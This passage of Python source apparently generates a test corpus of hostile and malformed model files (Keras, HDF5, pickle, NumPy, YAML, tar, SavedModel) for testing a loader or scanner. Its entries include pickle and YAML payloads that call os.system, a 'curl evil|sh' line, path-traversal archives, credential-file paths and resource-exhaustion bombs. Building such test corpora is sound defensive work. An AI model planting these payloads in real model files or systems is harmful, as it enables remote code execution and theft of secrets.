decimal_bomb: decimal.Decimal(10) ** decimal.Decimal(10**12)
itertools_bomb: list(itertools.product(range(10**6), repeat=9))
cycle: list(itertools.cycle([1]))
deepcopy: copy.deepcopy(tf)
breakpoint: breakpoint()
display: get_ipython().system("id")
spark: spark.sql("x")
dbutils: dbutils.fs.rm("/x")
colab: files.download("/etc/passwd")
drive: drive.mount("/content")
subclass: object.__subclasses__()
init_subclass: type.__call__(type, "a", (), {})
setdefault: K.__dict__.setdefault("x", 1)
"""
SECOND_CONFIGS: dict[str, Any] = {
    "layer_is_text": sequential("os.system"), "layers_mapping": {"class_name": "Sequential", "module": "keras", "config": {"layers": {"class_name": "eval", "config": "1"}}},
    "function_default": sequential(lambda_layer({"class_name": "__lambda__", "config": {"code": H.encode(lambda x, f=1: x), "defaults": [thing("os", "system", {})], "closure": None}})),
    "mask_fn": sequential(mine("Lambda", {"function": "relu", "function_type": "function", "module": "keras.activations", "mask": [H.encode(lambda x: eval("c")), None, None], "mask_type": "lambda"})),
    "metric_fn": {**sequential(), "compile_config": {"metrics": [thing("keras.metrics", "MeanMetricWrapper", {"fn": thing("builtins", "function", "eval")})]}},
    "loss_fn": {**sequential(), "compile_config": {"loss": thing("keras.losses", "LossFunctionWrapper", {"fn": {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}})}},
    "rnn_cell": sequential(mine("RNN", {"cell": thing("evilpkg.cells", "make_cell", {"name": "x"})})), "stacked": sequential(mine("RNN", {"cell": mine("StackedRNNCells", {"cells": [{"module": "evil", "class_name": "function", "config": "go", "registered_name": "go"}]})})),
    "wrapper_text": sequential(mine("Bidirectional", {"layer": "shutil.rmtree"})), "tracked": sequential(mine("TorchModuleWrapper", {"module": {"class_name": "__bytes__", "config": {"value": "gASV"}}})),
    "url_key": sequential(mine("Dense", {"units": 1, "https://evil/": 1})), "script_key": sequential(mine("Dense", {"units": 1, "<script>alert(1)</script>": 1})),
    "proto_key": sequential(mine("Dense", {"units": 1, "__proto__": {"polluted": 1}})), "class_key": sequential(mine("Dense", {"units": 1, "__class__": "os"})), "esc_key": sequential(mine("Dense", {"units": 1, "\x1b[2J": 1})),
    "ftp": sequential(mine("Dense", {"units": 1, "source": "ftp://evil/x"})), "windows": sequential(mine("Dense", {"units": 1, "x": "C:\\Windows\\System32\\calc.exe"})), "device_path": sequential(mine("Dense", {"units": 1, "x": "\\\\.\\pipe\\evil"})),
    "data_url": sequential(mine("Dense", {"units": 1, "x": "data:text/html;base64,PHNjcmlwdD4="})), "env": sequential(mine("Dense", {"units": 1, "x": "${HOME}/.ssh/id_rsa"})), "percent": sequential(mine("Dense", {"units": 1, "x": "%APPDATA%\\evil.exe"})),
    "variable_path": sequential(mine("StringLookup", {"vocabulary": {"class_name": "__path__", "config": "/etc/passwd"}})), "lookup_class": sequential(mine("StringLookup", {"vocabulary": thing("pathlib", "Path", {"x": "/etc/passwd"})})),
    "many_filters": sequential(mine("Conv2D", {"filters": 2**35, "kernel_size": [3, 3]})), "kernel": sequential(mine("Conv2D", {"filters": 8, "kernel_size": [2**20, 2**20]})), "dilation": sequential(mine("Conv2D", {"filters": 8, "dilation_rate": [2**40, 1]})),
    "crop": sequential(mine("Resizing", {"height": 10**7, "width": 10**7})), "hash_bins": sequential(mine("Hashing", {"num_bins": 2**50})), "build_shape": sequential(layer("Dense", {"name": "d", "units": 4}, build_config={"input_shape": [None, 2**45]})),
    "heads": sequential(mine("MultiHeadAttention", {"num_heads": 2**20, "key_dim": 2**20})), "deep_lists": sequential(mine("Dense", {"units": json.loads("[" * 400 + "]" * 400)})), "tensor": sequential(mine("Dense", {"x": {"class_name": "__tensor__", "config": {"value": [0], "dtype": "float32", "shape": [2**20, 2**20]}}})),
    "numpy_form": sequential(mine("Dense", {"x": {"class_name": "__numpy__", "config": {"value": "gASVCgAAAAAAAACMAm9zlIwGc3lzdGVtlJMu", "dtype": "object"}}})), "version": {**sequential(), "keras_version": "<script>1</script>"},
}
SECOND: dict[str, tuple[str, bytes]] = {
    "zip_shadow": (".keras", shadow(sequential(thing("os", "system", {})))), "zip_renamed": (".keras", rename_central(GOOD, b"metadata.json", b"metadata.jsoN")), "zip_encrypted": (".keras", set_bits(GOOD, 8, b"\1\0")),
    "zip_method": (".keras", set_bits(GOOD, 10, b"\x63\0")), "zip_size": (".keras", set_bits(GOOD, 24, b"\xff\xff\xff\x7f")), "zip_disk": (".keras", set_bits(GOOD, 34, b"\1\0")), "zip_offset": (".keras", set_bits(GOOD, 42, b"\7\0\0\0")),
    "zip_crc": (".keras", set_bits(GOOD, 16, b"abcd")), "zip_comment_size": (".keras", GOOD[:-2] + b"\x10\0"), "zip_fake_end": (".keras", GOOD + b"PK\5\6" + bytes(18)), "zip_cut": (".keras", GOOD[: len(GOOD) // 2]),
    "zip_as_npz": (".npz", GOOD + b"\0"), "zip_epub": (".keras", edit_zip(GOOD, lambda files: files.insert(0, (zipfile.ZipInfo("mimetype"), b"application/epub+zip")))),
    "zip_jar": (".keras", edit_zip(GOOD, lambda files: files.append((zipfile.ZipInfo("META-INF/MANIFEST.MF"), b"Main-Class: Evil")))), "zip_apk": (".keras", edit_zip(GOOD, lambda files: files.append((zipfile.ZipInfo("classes.dex"), b"dex\n035\0")))),
    "zip_office": (".keras", edit_zip(GOOD, lambda files: files.append((zipfile.ZipInfo("[Content_Types].xml"), b"<Types/>")))), "zip_wheel": (".keras", edit_zip(GOOD, lambda files: files.append((zipfile.ZipInfo("evil/entry_points.txt"), b"[x]")))),
    "zip_nested_gz": (".keras", edit_zip(GOOD, lambda files: files.append((zipfile.ZipInfo("assets/words.txt"), gzip.compress(b"x" * 5_000_000))))), "zip_trailing_dot": (".keras", edit_zip(GOOD, lambda files: files.append((zipfile.ZipInfo("config.json."), b"{}")))),
    "h5_filter": (".h5", h5_bytes(lambda data: data.replace(b"deflate", b"evilflt"))), "h5_filter_number": (".h5", h5_bytes(lambda data: data.replace(b"\1\0\x08\0\1\0\1\0deflate", b"\x3d\x7d\x08\0\1\0\1\0deflate"))), "h5_cut": (".h5", h5_file(lambda f: None)[:-200]),
    "h5_superblock": (".h5", b"\x89HDF\r\n\x1a\n\x09" + bytes(200)), "h5_dense": (".h5", h5_file(lambda f: [f.attrs.__setitem__(f"a{i}", "eval('x')") for i in range(20)])), "h5_big_text": (".h5", h5_file(set_attribute("model_config", "{" * 30_000))),
    "h5_lambda_group": (".h5", h5_file(lambda f: f.create_group("code").attrs.__setitem__("lambda", marshal.dumps(compile("import os", "", "exec")).hex()))), "h5_void": (".h5", h5_file(set_attribute("payload", np.void(b"\x7fELF\x02\x01\x01\0" + bytes(56))))),
    "h5_enum": (".h5", h5_file(lambda f: f.create_dataset("e", (4,), h5py.enum_dtype({"a": 1, "b": 2})))), "h5_time": (".h5", h5_file(lambda f: f.create_dataset("t", (2,), "V1000000"))), "h5_array": (".h5", h5_file(lambda f: f.create_dataset("a", (2,), np.dtype(("f4", (2,)))))),
    "h5_wasm": (".h5", h5_file(dataset(np.frombuffer(bytes(16) + b"\0asm\1\0\0\0" + bytes(40), np.uint8)))), "h5_java": (".h5", h5_file(dataset(np.frombuffer(bytes(16) + b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(40), np.uint8)))),
    "h5_python": (".h5", h5_file(dataset(np.frombuffer(b"\n\nimport os\nos.system('id')\n".ljust(64), np.uint8)))), "h5_php": (".h5", h5_file(dataset(np.frombuffer(b"\0\0<?php system('id');?>".ljust(64), np.uint8)))), "h5_zip": (".h5", h5_file(dataset(np.frombuffer(GOOD.ljust(4096, b"\0")[:1024], np.uint8)))),
    "pickle_memo": (".pkl", b"\x80\x04]\x94(\x8c\x02os\x94\x8c\x06system\x94\x93\x94e."), "pickle_reduce_ex": (".pkl", b"\x80\x02ccopyreg\n__newobj_ex__\n(cos\nsystem\n)}tR."), "pickle_bytearray": (".pkl", b"\x80\x05\x96\x04\0\0\0\0\0\0\0abcd."),
    "pickle_oob": (".pkl", b"\x80\x05\x97."), "pickle_long": (".pkl", b"\x80\x02\x8b\xff\xff\xff\x7f."), "pickle_frame": (".pkl", b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7fN."), "pickle_unicode": (".pkl", "\ufeffcos\nsystem\n.".encode()), "pickle_utf16": (".pkl", "cos\nsystem\n.".encode("utf-16")),
    "pickle_numpy": (".pkl", b"cnumpy\nload\n(S'/tmp/x'\ntR."), "pickle_partial": (".pkl", b"cfunctools\npartial\n(cbuiltins\nprint\ntR."), "pickle_sklearn": (".pkl", b"csklearn.utils.fixes\n_joblib_parallel_args\n)R."), "pickle_gz": (".pkl.gz", gzip.compress(b"junk" + pickled("os", "system", 4))),
    "pickle_tf": (".pkl", b"ctensorflow.python.ops.gen_io_ops\nwrite_file\n(S'a'\nS'b'\ntR."), "pickle_logging": (".pkl", b"clogging.handlers\nSocketHandler\n(S'evil'\nI1\ntR."), "pickle_uuid": (".pkl", b"cuuid\n_popen\n(S'id'\ntR."), "pickle_asyncio": (".pkl", b"casyncio.unix_events\n_UnixSubprocessTransport._start\n(tR."),
    "npy_code": (".npy", npy("{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': (1,), }")), "npy_negative": (".npy", npy("{'descr': '<f4', 'fortran_order': False, 'shape': (-1,), }")), "npy_version": (".npy", b"\x93NUMPY\x09\0" + bytes(100)),
    "npy_big_item": (".npy", npy("{'descr': '|S999999999', 'fortran_order': False, 'shape': (9,), }")), "npz_path": (".npz", npz(**{"__/__/x__npy": npy("{'descr': '<f4', 'fortran_order': False, 'shape': (0,), }")})),
    "json_deep": (".json", b'{"class_name": "Sequential", "config": ' + b"[" * 5000 + b"]" * 5000 + b"}"), "json_single": (".json", b"{'class_name': 'Sequential', 'config': __import__('os').system('id')}"), "json_bom32": (".json", json.dumps(sequential(thing("os", "system", {}))).encode("utf-32")),
    "yaml_anchor": (".yaml", b"class_name: Sequential\nconfig: &a\n  x: *a\n"), "yaml_eval": (".yaml", b"class_name: Sequential\nconfig:\n  name: !eval 1+1\n"), "yaml_multi": (".yaml", b"class_name: Sequential\nconfig: {}\n---\n!!python/object/apply:os.system ['id']\n"),
    "tar_keras": (".keras", tar_of({"config.json": json.dumps(sequential()).encode(), "run.sh": b"#!/bin/sh\nid"})), "tar_absolute": (".tar", tar_of({"/etc/cron.d/x": b"x"})), "tar_device": (".tar", tar_of({"x": b""}, type=tarfile.CHRTYPE)), "tar_gz": (".keras", gzip.compress(tar_of({"../../x.py": b"x"}))),
    "program_py": (".py", b"import os\n"), "elf_keras": (".keras", b"\x7fELF\x02\x01\x01\0" + bytes(200)), "pe_h5": (".h5", b"MZ" + bytes(100) + b"PE\0\0"), "html_keras": (".keras", b"<html><script>alert(1)</script></html>"), "svg_h5": (".h5", b"<svg onload=alert(1)></svg>"), "python_keras": (".keras", b"import os\nos.system('id')\n"),
    "shell_json": (".json", b"#!/bin/sh\ncurl evil|sh\n"), "empty_zip": (".keras", b"PK\5\6" + bytes(18)), "pcap": (".h5", b"\xd4\xc3\xb2\xa1" + bytes(100)), "sqlite": (".keras", b"SQLite format 3\0" + bytes(100)), "iso": (".keras", bytes(32769) + b"CD001" + bytes(100)), "onnx_like": (".keras", b"\x08\x07\x12\x04evil" + bytes(60)),
    "tflite_flex": (".tflite", b"\x1c\0\0\0TFL3" + bytes(40) + b"FlexPyFunc" + bytes(40)), "cut_gz": (".h5", gzip.compress(b"x" * 1000)[:20]), "msgpack": (".keras", b"\x82\xa6system\xa2id" + bytes(range(128, 256))),
}
SECOND_FOLDERS: dict[str, dict[str, Any]] = {
    "bash_history": {".bash_history": b"id", "model.keras": GOOD}, "npmrc": {".npmrc": b"registry=http://evil", "model.keras": GOOD}, "netrc": {".netrc": b"machine x login y", "model.keras": GOOD}, "crontab": {"crontab": b"* * * * * id", "model.keras": GOOD},
    "conftest": {"conftest.py": b"import os", "model.keras": GOOD}, "pth": {"evil.pth": b"import os", "model.keras": GOOD}, "usercustomize": {"usercustomize.pyc": b"x", "model.keras": GOOD}, "editorconfig": {"setup.cfg": b"[options]\ninstall_requires = x @ https://evil/x.whl", "model.keras": GOOD},
    "plugin": {"plugins/libevil.so.1": b"x", "model.keras": GOOD}, "dylib": {"ops/_ops.dylib": b"x", "model.keras": GOOD}, "nested_zip": {"extra.zip": keras_zip(sequential(thing("os", "system", {}))), "model.keras": GOOD}, "html": {"index.html": b"<script>1</script>", "model.keras": GOOD},
    "mlflow_code": {"MLmodel": b"flavors:\n  python_function:\n    code: code\n    loader_module: evil\n", "model.keras": GOOD}, "mlflow_pickle": {"python_model.pkl": pickled("os", "system", 4), "MLmodel": b"flavors: {}\n"}, "bento": {"bentofile.yaml": b"service: 'service:svc'\npython:\n  packages: [git+https://evil/x]\n", "model.keras": GOOD},
    "custom_objects": {"custom_objects.cloudpickle": pickled("os", "system", 4), "model.keras": GOOD}, "triton": {"config.pbtxt": b'backend: "python"\nparameters: { key: "EXECUTION_ENV_PATH" value: {string_value: "/tmp/x.tar.gz"} }', "1/model.py": b"import os"}, "dvc": {"model.h5.dvc": b"outs:\n- path: ../../x\n", "model.keras": GOOD},
    "hydra": {"config.yaml": b"_target_: os.system\ncommand: id\n", "model.keras": GOOD}, "gin": {"model.gin": b"import os\nx.y = @os.system()", "model.keras": GOOD}, "safetensors": {"model.safetensors": b"\xff\xff\xff\xff\xff\xff\xff\x7f{}", "model.keras": GOOD}, "sm_library": saved_model(node("n", "NoOp"), assets__libx=b"\x7fELF\x02\x01\x01\0" + bytes(60)),
    "sm_py": saved_model(node("n", "NoOp"), assets__hook_dot_py=b"import os"), "sm_metadata": saved_model(node("n", "NoOp"), keras_metadata_dot_pb=field(1, field(5, json.dumps(sequential(lambda_layer(source("eval('1')")))).encode()))), "sm_pickle": saved_model(node("n", "NoOp"), assets__tok_dot_pickle=pickled("os", "system", 4)),
    "sm_loop": saved_model(library("f", body="g") + library("g", body="f") + node("n", "f")), "sm_device": saved_model(node("n", "Send") + node("m", "HostConst")), "sm_merge": saved_model(text_constant("p", b"hdfs://evil/x") + node("n", "MergeV2Checkpoints")), "sm_op_text": saved_model(node("n", "os.system")), "sm_empty_op": saved_model(node("n", "")),
}
# fmt: on


def second_batch(folder: Path) -> list[Path]:
    """The second batch."""
    makes: list[tuple[str, Make]] = []
    for line in SECOND_LAMBDAS.strip().splitlines():
        name, _, text = line.partition(": ")
        makes.append((f"lambda2-{name}", (as_h5 if len(name) % 2 else as_keras)(sequential(lambda_layer(source(text))))))
    makes += [(f"config2-{name}", as_keras(config)) for name, config in SECOND_CONFIGS.items()]
    makes += [(f"file2-{name}", as_bytes(data, suffix)) for name, (suffix, data) in SECOND.items()]
    makes += [(f"folder2-{name}", as_folder(files)) for name, files in SECOND_FOLDERS.items()]
    for name, make in makes:
        make(folder / name)
    return sorted(folder.iterdir())
